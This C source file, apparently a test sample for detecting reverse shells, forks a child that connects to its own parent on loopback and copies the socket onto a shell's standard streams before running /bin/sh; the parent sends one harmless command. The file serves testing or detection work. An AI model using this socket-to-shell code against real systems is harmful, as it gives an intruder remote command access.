/* SPDX-License-Identifier: Apache-2.0 */
/*
 * shows: reverse shell | a connection is made the standard streams of a shell
 * beside: the connection is used by the program itself
 *
 * The other end is its own parent, on the loopback interface, which sends one harmless
 * command and reads the answer. Ends by itself within 20 s.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

/* What the victim runs: never returns. */
static void become_a_shell(const struct sockaddr_in *address, int benign)
{
	int fd;

	alarm(20);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (const struct sockaddr *)address,
			      sizeof(*address)) < 0)
		_exit(1);
	if (benign)
		_exit(write(fd, "no shell here\n", 14) != 14);
	for (int stream = 0; stream < 3; stream++)
		if (dup2(fd, stream) < 0)
			_exit(1);
	close(fd);
	execl("/bin/sh", "sh", NULL);
	_exit(127);
}

/* What the attacker does with the connection. */
static int give_a_command(int fd)
{
	static const char command[] = "echo the shell answers; exit 0\n";
	char answer[256] = "";
	ssize_t got;

	if (write(fd, command, sizeof(command) - 1) != sizeof(command) - 1)
		return 1;
	got = read(fd, answer, sizeof(answer) - 1);
	if (got <= 0)
		return 1;
	answer[got] = 0;
	printf("reverse_shell: %s", answer);
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in address = { .sin_family = AF_INET };
	socklen_t size = sizeof(address);
	int listener, fd, status;

	alarm(20);
	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (listener < 0 ||
	    bind(listener, (struct sockaddr *)&address, size) < 0 ||
	    listen(listener, 1) < 0 ||
	    getsockname(listener, (struct sockaddr *)&address, &size) < 0)
		return 1;
	if (fork() == 0)
		become_a_shell(&address,
			       argc > 1 && strcmp(argv[1], "benign") == 0);
	fd = accept(listener, NULL, NULL);
	if (fd < 0)
		return 1;
	status = give_a_command(fd);
	close(fd);
	wait(NULL);
	return status;
}
